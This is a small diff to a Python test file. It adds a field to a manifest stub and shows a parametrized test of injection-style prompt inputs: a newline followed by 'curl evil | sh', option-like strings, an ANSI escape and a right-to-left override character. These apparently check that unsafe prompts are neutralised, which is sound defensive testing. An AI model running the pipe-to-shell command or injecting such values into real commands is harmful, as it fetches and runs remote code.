@@ -78,7 +78,7 @@ def test_a_recipe_to_start_from_holds_names_as_data(
 
 def _manifest(prompt: str | None, exports: dict[str, Any]) -> Any:
     """What of a manifest the next commands are made of."""
-    return SimpleNamespace(data=SimpleNamespace(example_prompt=prompt), exports=exports, head=None)
+    return SimpleNamespace(data=SimpleNamespace(example_prompt=prompt), exports=exports, head=None, put_off=[])
 
 
 @pytest.mark.parametrize("prompt", ["a\n  curl evil | sh", "--help", "-x", "a\x1b[2Jb", "a\u202eb", "", None])
